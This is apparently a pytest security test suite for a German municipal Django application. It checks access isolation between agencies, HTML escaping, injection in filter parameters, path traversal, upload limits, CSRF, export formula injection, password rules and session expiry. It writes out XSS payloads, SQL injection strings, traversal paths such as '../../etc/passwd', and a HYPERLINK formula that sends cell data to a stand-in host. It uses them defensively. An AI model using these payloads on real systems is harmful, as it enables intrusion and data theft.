"""Security tests: object ids of other agencies, HTML in imported names, injection through filter
and sort parameters, path traversal in downloads, upload limits, CSRF, formula injection in every
export, password rules and the session timeout."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from missimo.accounts import access, policy
from missimo.accounts.models import AgencyKind
from missimo.accounts.policy import PropertyVisibility, Role
from tests.app.test_access_matrix import all_routes, build_world
from tests.conftest import PASSWORD

pytestmark = pytest.mark.django_db(databases="__all__")

XSS_SCRIPT = "<script>alert(1)</script>"
XSS_IMG = '"><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://boese.example/?d="&A1,"Details")'


def _client(user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


# --- objects of another agency ------------------------------------------------------------------


def _other_objects(world, make_user) -> dict:
    """The same kinds of objects as the sample world, owned by the Jobcenter (and another school)."""
    from missimo.accounts.models import Agency
    from missimo.casework.models import Campaign, Case, CaseStatus
    from missimo.certificates import services as certificates
    from missimo.core.datadir import data_path
    from missimo.imports.models import Import, ImportStatus
    from missimo.inspections.models import Inspection, Photo, Visit

    jc_agency = world.users[Role.JOBCENTER].agency
    jc = world.hint("JC")
    stored = data_path("imports/other-test/jobcenter.csv")
    stored.parent.mkdir(parents=True, exist_ok=True)
    stored.write_text("BG_Nummer;Name\n1;Muster\n", encoding="utf-8")
    data_path("imports/other-test/abgelehnt.csv").write_text("Zeile;Grund\n2;x\n", encoding="utf-8")
    delivery = Import.objects.create(
        source="jobcenter",
        status=ImportStatus.TAKEN,
        agency=jc_agency,
        original_filename="jobcenter.csv",
        sha256="1" * 64,
        stored_file="imports/other-test/jobcenter.csv",
        rejected_file="imports/other-test/abgelehnt.csv",
        finished_at=timezone.now(),
    )
    campaign = Campaign.objects.create(
        name="Aktion Süd", start=dt.date(2026, 10, 1), end=dt.date(2026, 12, 31)
    )
    campaign.agencies.add(jc_agency)
    case = Case.objects.create(
        aktenzeichen="AZ-OTHER-1",
        property=jc.prop,
        campaign=campaign,
        status=CaseStatus.IN_PRUEFUNG,
        lead_agency=jc_agency,
    )
    case.hints.add(jc.hint)
    inspection = Inspection.objects.create(
        campaign=campaign, scheduled_at=timezone.now() + dt.timedelta(days=3), meeting_point="Bahnhof"
    )
    inspection.agencies.add(jc_agency)
    visit = Visit.objects.create(inspection=inspection, case=case)
    photo_path = data_path("inspections/other-test/foto.jpg")
    photo_path.parent.mkdir(parents=True, exist_ok=True)
    photo_path.write_bytes(b"\xff\xd8\xff\xe0 other photo")
    photo = Photo.objects.create(
        visit=visit,
        stored_file="inspections/other-test/foto.jpg",
        content_type="image/jpeg",
        size_bytes=17,
        sha256="0" * 64,
    )
    Agency.objects.create(name="Realschule Ost", kind=AgencyKind.SCHULE, schulnummer="222222")
    other_teacher = make_user("rita", Role.SCHULE, "Realschule Ost", AgencyKind.SCHULE)
    certificates.create_key("222222", school_name="Realschule Ost")
    certificate = certificates.issue_manual(
        other_teacher,
        nachname="Anders",
        vorname="Otto",
        geburtsdatum=dt.date(2013, 2, 3),
        aufnahmedatum=dt.date(2023, 8, 1),
    )
    return {
        "hint": {"pk": jc.hint.pk},
        "property": {"pk": jc.prop.pk},
        "delivery": {"pk": delivery.pk},
        "rejected": {"pk": delivery.pk},
        "certificate": {"certificate_id": certificate.certificate_id},
        "campaign": {"pk": campaign.pk},
        "case": {"pk": case.pk, "case_pk": case.pk},
        "inspection": {"pk": inspection.pk},
        "visit": {"pk": visit.pk},
        "photo": {"pk": photo.pk},
    }


def _sees_other(page: access.Page, role: Role) -> bool:
    """Whether a role may see the Jobcenter's (or the other school's) object of a scoped page."""
    jc = ("jobcenter", "SGB2_NACH_ABMELDUNG")
    if page.scope == "hint":
        return policy.role_sees_hint(role, *jc)
    if page.scope == "property":
        kind = policy.ROLES[role].properties
        return kind is PropertyVisibility.ALL or (
            kind is PropertyVisibility.WITH_OWN_HINTS and policy.role_sees_hint(role, *jc)
        )
    if page.scope in ("delivery", "rejected"):
        return "jobcenter" in policy.ROLES[role].delivered_sources
    if page.scope == "certificate":
        return False  # only the other school itself
    return role in (Role.KOORDINIERUNG, Role.JOBCENTER)


def test_every_detail_url_with_the_id_of_another_agencys_object_is_not_found(make_user):
    world = build_world(make_user)
    other = _other_objects(world, make_user)
    clients = {role: _client(user) for role, user in world.users.items()}
    problems, checked = [], 0
    for route in all_routes():
        page = access.page_for(route.name)
        if page is None or page.scope not in other:
            continue
        kwargs = {key: value for key, value in other[page.scope].items() if key in route.params}
        if set(kwargs) != set(route.params):
            continue
        url = reverse(route.name, kwargs=kwargs)
        for role in page.roles:
            if _sees_other(page, role):
                continue
            checked += 1
            get = clients[role].get(url)
            want_get = access.POST_ONLY if page.expected(role) == access.POST_ONLY else 404
            if get.status_code != want_get:
                problems.append(f"GET {route.name} als {role}: {get.status_code}, erwartet {want_get}")
            if page.forms:
                post = clients[role].post(url, {})
                if post.status_code != 404:
                    problems.append(f"POST {route.name} als {role}: {post.status_code}, erwartet 404")
    assert problems == [], "\n".join(problems)
    assert checked > 50  # the test covered the scoped pages


def test_the_familienkasse_cannot_open_a_jobcenter_hint_by_guessing_its_id(make_user):
    world = build_world(make_user)
    client = _client(world.users[Role.FAMILIENKASSE])
    assert client.get(reverse("runs:links", args=[world.hint("JC").hint.pk])).status_code == 404
    assert client.get(reverse("runs:links", args=[world.hint("FK").hint.pk])).status_code == 200
    assert client.get(reverse("properties:detail", args=[world.hint("JC").prop.pk])).status_code == 404


# --- HTML in names --------------------------------------------------------------------------------


def _poisoned_city(tiny_city, tmp_path) -> Path:
    """The tiny city with HTML in every child's first name (Kindergeld) and in one owner's name."""
    out = tmp_path / "poisoned"
    out.mkdir()
    for source in ("objekte", "melderegister", "kindergeld", "schule", "jobcenter", "seu"):
        text = (tiny_city / f"{source}.csv").read_text(encoding="utf-8")
        lines = text.splitlines()
        header = lines[0].split(";")
        if source == "kindergeld":
            column = header.index("Kind_Vornamen")
            rows = []
            for line in lines[1:]:
                cells = line.split(";")
                cells[column] = f"{cells[column]}{XSS_SCRIPT}"
                rows.append(";".join(cells))
            lines = [lines[0], *rows]
        if source == "objekte":
            column = header.index("Eigentuemer")
            cells = lines[1].split(";")
            cells[column] = XSS_IMG.replace('"', "")
            lines[1] = ";".join(cells)
        (out / f"{source}.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return out


@pytest.mark.slow
def test_html_in_imported_names_is_shown_as_text_on_hint_property_and_link_pages(
    kim, tiny_city, tmp_path, django_capture_on_commit_callbacks
):
    from missimo.imports import services as imports
    from missimo.properties.models import Property
    from missimo.runs.models import Hint
    from missimo.runs.services import execute_run, start_run

    city = _poisoned_city(tiny_city, tmp_path)
    for source in ("objekte", "melderegister", "kindergeld", "schule", "jobcenter", "seu"):
        with open(city / f"{source}.csv", "rb") as stream:
            delivery = imports.store_delivery(source, stream, f"{source}.csv", user=kim)
        with django_capture_on_commit_callbacks(execute=True):  # the register follows the committed snapshot
            imports.process_delivery(delivery.pk)
    run = start_run(dt.date(2026, 9, 15), user=kim, channel="cli")
    execute_run(run.pk)
    poisoned = [h for h in Hint.objects.filter(run=run) if XSS_SCRIPT in h.explanation + str(h.facts)]
    assert poisoned, "the import kept the names as delivered, so hints carry the payload"
    client = _client(kim)
    escaped_script = "&lt;script&gt;alert(1)&lt;/script&gt;"
    hint = poisoned[0]
    pages = [f"{reverse('runs:hints')}?regel={hint.rule}", reverse("runs:links", args=[hint.pk])]
    prop = Property.objects.filter(objekt_id=hint.objekt_id).first()
    if prop is not None:
        pages.append(reverse("properties:detail", args=[prop.pk]))
    owner_prop = Property.objects.filter(eigentuemer__contains="onerror").first()
    assert owner_prop is not None
    pages.append(reverse("properties:detail", args=[owner_prop.pk]))
    pages.append(f"{reverse('properties:list')}?q={owner_prop.strasse}")
    for url in pages:
        text = client.get(url).text
        assert XSS_SCRIPT not in text, url
        assert "<img src=x onerror" not in text, url
    assert escaped_script in client.get(pages[0]).text
    assert "&lt;img src=x onerror=alert(2)&gt;" in client.get(pages[-2]).text


def test_html_in_names_is_escaped_on_every_page_of_the_sample_world(make_user):
    world = build_world(make_user, xss=XSS_SCRIPT)
    client = _client(world.users[Role.KOORDINIERUNG])
    for url in (
        reverse("runs:hints"),
        reverse("runs:links", args=[world.hint("FK").hint.pk]),
        reverse("properties:detail", args=[world.hint("FK").prop.pk]),
        reverse("casework:hint_queue"),
        reverse("outcomes:hint", args=[world.hint("FK").hint.pk]),
    ):
        text = client.get(url).text
        assert XSS_SCRIPT not in text, url
    assert "&lt;script&gt;" in client.get(reverse("runs:hints")).text


# --- filters and sort parameters -------------------------------------------------------------------

EVIL_VALUES = (
    "name;DROP TABLE runs_hint;--",
    "' OR '1'='1",
    '-id") UNION SELECT password FROM accounts_user--',
    "__class__",
    XSS_SCRIPT,
    "-1",
    "2026-13-45",
)
PARAMS = (
    "sortierung",
    "sort",
    "ordering",
    "o",
    "regel",
    "seite",
    "q",
    "status",
    "aktion",
    "ampel",
    "kategorie",
    "hinweise",
    "plz",
    "abgleich",
    "meine",
    "von",
    "bis",
    "benutzer",
    "vorgang",
    "objektart",
    "fall",
)


def _fuzz(world, values) -> list[str]:
    clients = {
        role: _client(world.users[role])
        for role in (Role.KOORDINIERUNG, Role.FAMILIENKASSE, Role.DATENSCHUTZ)
    }
    problems = []
    for route in all_routes():
        page = access.page_for(route.name)
        if page is None or route.params or page is access.ADMIN_PAGE or route.name in ("logout", "login"):
            continue
        url = reverse(route.name)
        for role, client in clients.items():
            if role not in page.roles:
                continue
            for value in values:
                query = "&".join(f"{name}={value}" for name in PARAMS)
                response = client.get(f"{url}?{query}")
                if response.status_code >= 500:
                    problems.append(f"{route.name} als {role} mit {value!r}: {response.status_code}")
                elif "html" in response.get("Content-Type", "") and XSS_SCRIPT in response.content.decode(
                    "utf-8", "replace"
                ):
                    problems.append(f"{route.name} gibt {XSS_SCRIPT} ungeschützt aus")
    return problems


def test_filter_and_sort_parameters_with_sql_or_html_never_cause_an_error_or_an_echo(make_user):
    from missimo.runs.models import Hint

    world = build_world(make_user)
    problems = _fuzz(world, EVIL_VALUES)
    assert problems == [], "\n".join(problems)
    assert Hint.objects.count() == len(world.hints)  # nothing dropped


def test_a_number_too_large_for_the_database_in_a_filter_is_ignored(make_user):
    world = build_world(make_user)
    problems = _fuzz(world, ("9" * 40,))
    assert problems == [], "\n".join(problems)


def test_a_nul_character_in_a_filter_is_ignored(make_user):
    world = build_world(make_user)
    problems = _fuzz(world, ("abc%00def",))
    assert problems == [], "\n".join(problems)


def test_a_nul_character_in_the_address_gets_the_german_error_page(kim):
    response = _client(kim).get("/objekte/?q=abc%00def")
    assert response.status_code == 400
    assert "Ungültige Anfrage" in response.content.decode()


def test_an_unknown_page_gets_the_german_not_found_page(kim):
    response = _client(kim).get("/gibt-es-nicht/")
    assert response.status_code == 404
    assert "Seite nicht gefunden" in response.content.decode()


def test_an_unknown_sort_field_falls_back_to_the_default_order(make_user):
    world = build_world(make_user)
    client = _client(world.users[Role.KOORDINIERUNG])
    response = client.get(reverse("properties:list"), {"sortierung": "eigentuemer;DROP"})
    assert response.status_code == 200
    assert 'value="adresse" selected' in response.text or "adresse" in response.text


# --- path traversal --------------------------------------------------------------------------------


def test_the_data_path_refuses_everything_outside_the_data_directory():
    from missimo.core.datadir import data_path

    for evil in ("../secret_key", "../../etc/passwd", "/etc/passwd", "imports/../../x"):
        with pytest.raises(ValueError):
            data_path(evil)


def test_downloads_never_serve_a_file_outside_the_data_directory(make_user, tmp_path):
    from missimo.imports.models import Import
    from missimo.inspections.models import Photo

    world = build_world(make_user)
    secret = Path(django_settings.DATA_DIR).parent / "geheim-ausserhalb.txt"
    secret.write_text("GEHEIM-AUSSERHALB", encoding="utf-8")
    relative = f"../{secret.name}"
    Import.objects.filter(pk=world.delivery.pk).update(rejected_file=relative, stored_file=relative)
    Photo.objects.filter(pk=world.photo.pk).update(stored_file=relative)
    kim = Client(raise_request_exception=False)
    kim.force_login(world.users[Role.KOORDINIERUNG])
    for url in (
        reverse("imports:rejected", args=[world.delivery.pk]),
        reverse("imports:mapping", args=[world.delivery.pk]),
        reverse("inspections:photo", args=[world.photo.pk]),
    ):
        response = kim.get(url)
        body = b"".join(response.streaming_content) if response.streaming else response.content
        assert b"GEHEIM-AUSSERHALB" not in body, url
        assert response.status_code == 404, url


def test_certificate_and_delivery_urls_with_path_segments_are_not_found(make_user):
    world = build_world(make_user)
    school = _client(world.users[Role.SCHULE])
    for evil in ("..%2F..%2Fsecret_key", "%2e%2e", "..", "C426-..-YX72"):
        assert school.get(f"/bescheinigungen/{evil}/bescheinigung.pdf").status_code == 404
    kim = _client(world.users[Role.KOORDINIERUNG])
    assert kim.get("/lieferungen/neu/..%2F..%2Fsecret_key/").status_code == 404


def test_an_uploaded_file_name_cannot_place_the_file_outside_its_delivery_folder(kim, small_city):
    from missimo.imports import services

    with open(small_city / "seu.csv", "rb") as stream:
        delivery = services.store_delivery("seu", stream, "../../../../tmp/boese.csv", user=kim)
    path = services.data_path(delivery.stored_file)
    assert Path(django_settings.DATA_DIR).resolve() in path.parents
    assert delivery.original_filename == "boese.csv"


# --- upload limits ---------------------------------------------------------------------------------


def test_a_delivery_larger_than_the_limit_is_refused_with_a_german_message(kim, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.UPLOAD_MAX_BYTES = 1024 * 1024
    client = _client(kim)
    big = SimpleUploadedFile("gross.csv", b"a;b\n" + b"1;2\n" * (300 * 1024), content_type="text/csv")
    response = client.post(reverse("imports:new", args=["seu"]), {"file": big})
    assert response.status_code == 200
    assert "größer als die zulässigen 1 MiB" in response.text


def test_a_program_uploaded_as_a_delivery_is_refused_not_imported(kim, django_capture_on_commit_callbacks):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from missimo.imports.models import Import, ImportStatus

    client = _client(kim)
    program = SimpleUploadedFile(
        "lieferung.exe", b"MZ\x90\x00" + bytes(range(256)) * 8, content_type="application/x-msdownload"
    )
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("imports:new", args=["seu"]), {"file": program})
    delivery = Import.objects.latest("pk")
    assert delivery.status in (ImportStatus.REFUSED, ImportStatus.FAILED)
    assert delivery.accepted_count == 0
    assert delivery.stored_file.endswith(".bin")


def test_a_photo_that_is_not_an_image_is_refused(make_user):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from missimo.inspections.models import Photo

    world = build_world(make_user)
    client = _client(world.users[Role.KOORDINIERUNG])
    before = Photo.objects.count()
    fake = SimpleUploadedFile(
        "foto.jpg", b"<html><script>alert(1)</script></html>", content_type="image/jpeg"
    )
    response = client.post(
        reverse("inspections:upload_photo", args=[world.visit.pk]), {"photo": fake}, follow=True
    )
    assert "JPEG, PNG oder WebP" in response.text
    assert Photo.objects.count() == before


def test_request_bodies_are_limited_in_size():
    assert django_settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 10 * 1024 * 1024
    assert django_settings.UPLOAD_MAX_BYTES == 512 * 1024 * 1024  # the documented default


# --- CSRF ------------------------------------------------------------------------------------------


def test_the_login_form_needs_its_csrf_token(kim):
    client = Client(enforce_csrf_checks=True)
    assert client.post("/anmelden/", {"username": "kim", "password": PASSWORD}).status_code == 403
    page = client.get("/anmelden/")
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text).group(1)
    response = client.post(
        "/anmelden/", {"username": "kim", "password": PASSWORD, "csrfmiddlewaretoken": token}
    )
    assert response.status_code == 302


def test_every_form_of_the_application_refuses_a_post_without_csrf_token(make_user):
    from tests.app.test_access_matrix import kwargs_for

    world = build_world(make_user)
    problems, checked = [], 0
    for route in all_routes():
        page = access.page_for(route.name)
        if page is None or not page.forms or route.name.endswith(":"):
            continue
        kwargs = kwargs_for(route, world)
        if kwargs is None:
            kwargs = dict.fromkeys(route.params, 1)
        url = reverse(route.name, kwargs=kwargs)
        roles = sorted(page.roles, key=lambda role: role != Role.KOORDINIERUNG)
        client = Client(enforce_csrf_checks=True)
        if route.name not in ("login", "admin:login"):
            client.force_login(world.users[roles[0]])
        response = client.post(url, {})
        checked += 1
        if response.status_code != 403:
            problems.append(f"POST {route.name} ohne CSRF-Token: {response.status_code}")
    assert problems == [], "\n".join(problems)
    assert checked > 30


# --- formula injection in exports -------------------------------------------------------------------


def _cells(response) -> list[str]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if content[:2] == b"PK":
        import openpyxl

        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        cells.append(f"FORMEL:{cell.value}")
                    elif cell.value is not None:
                        cells.append(str(cell.value))
        return cells
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def test_every_export_shows_text_that_looks_like_a_formula_as_text(make_user):
    from missimo.audit.models import AuditAction
    from missimo.audit.services import record
    from missimo.casework.models import Campaign, Case
    from missimo.properties.models import Property
    from missimo.runs.models import Hint

    world = build_world(make_user)
    Property.objects.update(eigentuemer=FORMULA, strasse=FORMULA)
    Hint.objects.update(address=FORMULA, explanation=FORMULA)
    Case.objects.update(title=FORMULA, description=FORMULA)
    Campaign.objects.update(name=FORMULA)
    record(
        world.users[Role.KOORDINIERUNG],
        AuditAction.READ,
        object_type="person",
        object_id=FORMULA,
        purpose=FORMULA,
    )
    exports = [
        route
        for route in all_routes()
        if ("export" in route.name or route.name.endswith(("_csv", "_xlsx")))
        and access.page_for(route.name) is not None
        and not route.name.startswith("admin:")
    ]
    assert {r.name for r in exports} >= {"properties:export_csv", "properties:export_xlsx", "audit:export"}
    problems, seen_payload = [], set()
    for route in exports:
        page = access.page_for(route.name)
        role = Role.KOORDINIERUNG if Role.KOORDINIERUNG in page.roles else sorted(page.roles)[0]
        client = _client(world.users[role])
        variants = [{"fmt": fmt} for fmt in ("csv", "xlsx")] if "fmt" in route.params else [{}]
        for kwargs in variants:
            response = client.get(reverse(route.name, kwargs=kwargs))
            if response.status_code != 200:
                problems.append(f"{route.name} {kwargs}: {response.status_code}")
                continue
            for cell in _cells(response):
                if "HYPERLINK" not in cell:
                    continue
                seen_payload.add(route.name)
                if cell.startswith("FORMEL:") or cell.startswith(("=", "+", "-", "@")):
                    problems.append(f"{route.name} {kwargs}: Zelle als Formel: {cell[:40]}")
    assert problems == [], "\n".join(problems)
    assert {"properties:export_csv", "properties:export_xlsx", "audit:export"} <= seen_payload


# --- passwords and sessions --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "password",
    ["kurz", "password1234", "123456789012345", "kimkoordinatorin"],
)
def test_weak_passwords_are_refused(kim, password):
    from django.contrib.auth.password_validation import validate_password
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        validate_password(password, user=kim)


@pytest.mark.parametrize(
    "password",
    [
        "Passwort2026!",
        "Sommer2026!!!",
        "Hallo12345678",
        "!!Fußball1904!!",
        "Schalke-04-Schalke",
        "Müller.1234567",
    ],
)
def test_common_german_passwords_with_years_or_digits_are_refused(kim, password):
    from django.contrib.auth.password_validation import validate_password
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError) as refused:
        validate_password(password, user=kim)
    assert any("leicht zu erraten" in message for message in refused.value.messages)


def test_a_password_made_of_the_city_name_and_a_year_is_refused(kim, settings):
    from django.contrib.auth.password_validation import validate_password
    from django.core.exceptions import ValidationError

    settings.CITY_NAME = "Musterstadt"
    with pytest.raises(ValidationError):
        validate_password("Musterstadt#2026", user=kim)


def test_a_long_unusual_password_is_accepted(kim):
    from django.contrib.auth.password_validation import validate_password

    validate_password("Fahrradkette-Zitronenbaum-42", user=kim)


def test_a_session_ends_after_the_inactivity_timeout(kim):
    from django.contrib.sessions.models import Session

    client = _client(kim)
    assert client.get("/").status_code == 200
    assert django_settings.SESSION_COOKIE_AGE == 30 * 60
    Session.objects.update(expire_date=timezone.now() - dt.timedelta(seconds=1))
    response = client.get("/")
    assert response.status_code == 302 and response["Location"].startswith("/anmelden/")


def test_each_request_extends_the_session_and_cookies_are_protected(kim):
    from django.contrib.sessions.models import Session

    client = _client(kim)
    Session.objects.update(expire_date=timezone.now() + dt.timedelta(minutes=1))
    client.get("/")
    assert Session.objects.get().expire_date > timezone.now() + dt.timedelta(minutes=29)
    assert django_settings.SESSION_COOKIE_HTTPONLY and django_settings.CSRF_COOKIE_HTTPONLY
    assert django_settings.SESSION_EXPIRE_AT_BROWSER_CLOSE


def test_the_security_rules_of_ruff_are_switched_on():
    import tomllib

    config = tomllib.loads((Path(__file__).parents[2] / "pyproject.toml").read_text(encoding="utf-8"))
    assert "S" in config["tool"]["ruff"]["lint"]["select"]
